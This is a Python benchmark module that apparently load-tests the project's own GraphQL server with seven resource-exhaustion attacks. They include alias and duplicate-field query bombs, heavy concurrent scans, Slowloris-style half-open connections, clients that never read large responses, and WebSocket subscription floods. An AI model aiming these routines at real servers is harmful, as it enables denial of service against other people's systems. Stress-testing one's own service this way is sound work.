"""Attackers, a process of its own: `python -m bench.attacks.attackers KIND HOST PORT SECONDS`.

Each kind does what was found to hurt (issue 19); see the functions.
"""

from __future__ import annotations

import asyncio
import socket
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from time import monotonic
from typing import Final

import orjson
from websockets import Subprotocol, connect
from websockets.exceptions import WebSocketException

Address = tuple[str, int]
NUMBERS: Final = count()
CHANGED: Final = {"query": "subscription { dataChanged { version requests } }"}
LARGE: Final = (
    "{ jurisdictions(first: 20, where: {kind: {eq: STATE}}) { edges { node "
    "{ parts(first: 100) { edges { node { " + " ".join(f"a{n}: key" for n in range(400)) + " } } } } } } }"
)
GREETING: Final = b"POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\n"
HALF_OPEN: Final = (
    (b"", b""),
    (GREETING + b"X-a:", b"a"),
    (GREETING + b"Content-Type: application/json\r\nContent-Length: 500\r\n\r\n{", b"a"),
    (b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b""),
    (b"POST /livez HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 500\r\n\r\n{", b"a"),
    (GREETING + b"Content-Type: text/plain\r\nContent-Length: 500\r\n\r\n{", b""),
)


def post(query: str) -> bytes:
    """A request with a query."""
    body = orjson.dumps({"query": query})
    head = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    return GREETING + head.encode() + body


def heavy() -> str:
    """A query of a hundred scans, with a text of its own."""
    fields = (
        f'a{n}: jurisdictions(where: {{name: {{contains: "z{next(NUMBERS)}"}}}}) {{ totalCount }}'
        for n in range(100)
    )
    return f"query Heavy{next(NUMBERS)} {{ {' '.join(fields)} }}"


async def exchange(address: Address, request: bytes, wait_s: float = 60.0) -> None:
    """Sends a request and reads what comes for so long; then hangs up."""
    reader, writer = await asyncio.open_connection(*address)
    with suppress(TimeoutError, ConnectionError):
        writer.write(request)
        async with asyncio.timeout(wait_s):
            await reader.readuntil(b"\r\n\r\n")
    writer.transport.abort()


async def bombs(address: Address) -> None:
    """Documents that take as long as they may to parse, to validate and to plan."""
    duplicates = " ".join("sites(first: 1) { edges { node { name key } } }" for _ in range(200))
    await exchange(address, post(f"query Bomb{next(NUMBERS)} {{ {duplicates} }}"))
    aliases = " ".join(f"a{n}: __typename" for n in range(900))
    await exchange(address, post(f"query Bomb{next(NUMBERS)} {{ {aliases} }}"))


async def concurrency(address: Address) -> None:
    """Heavy queries, each another one."""
    await exchange(address, post(heavy()))


async def hang_up(address: Address) -> None:
    """Heavy queries whose client leaves at once."""
    await exchange(address, post(heavy()), 0.3)


async def slow(address: Address) -> None:
    """Half-open connections of six kinds."""
    first, then = HALF_OPEN[next(NUMBERS) % len(HALF_OPEN)]
    reader, writer = await asyncio.open_connection(*address)
    reading = asyncio.create_task(reader.read())
    with suppress(ConnectionError):
        writer.write(first)
        while not reading.done():
            writer.write(then)
            await asyncio.wait({reading}, timeout=1)
        await reading
    writer.transport.abort()


async def deaf(address: Address) -> None:
    """Large answers that nobody reads."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.setblocking(False)
    loop = asyncio.get_running_loop()
    with connection, suppress(ConnectionError):
        await loop.sock_connect(connection, address)
        await loop.sock_sendall(connection, post(LARGE))
        await asyncio.sleep(20)


async def sockets(address: Address) -> None:
    """WebSockets, each with as many subscriptions as it may have."""
    with suppress(WebSocketException, OSError):
        async with connect(
            f"ws://{address[0]}:{address[1]}/graphql", subprotocols=[Subprotocol("graphql-transport-ws")]
        ) as opened:
            await opened.send('{"type": "connection_init"}')
            for id in range(20):
                message = {"id": str(id), "type": "subscribe", "payload": CHANGED}
                await opened.send(orjson.dumps(message).decode())
            async for _ in opened:
                pass


KINDS: Final[dict[str, tuple[Callable[[Address], Awaitable[None]], int]]] = {
    "nothing": (lambda _: asyncio.sleep(1), 1),
    "bombs": (bombs, 20),
    "concurrency": (concurrency, 120),
    "hang-up": (hang_up, 40),
    "slow": (slow, 300),
    "deaf": (deaf, 50),
    "sockets": (sockets, 300),
}
"""Each attack, and how many do it at once."""


async def _run(kind: str, address: Address, seconds: float) -> None:
    attack, at_once = KINDS[kind]
    until = monotonic() + seconds

    async def repeated() -> None:
        while monotonic() < until:
            with suppress(ConnectionError):
                await attack(address)

    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*(repeated() for _ in range(at_once)))


if __name__ == "__main__":
    asyncio.run(_run(sys.argv[1], (sys.argv[2], int(sys.argv[3])), float(sys.argv[4])))
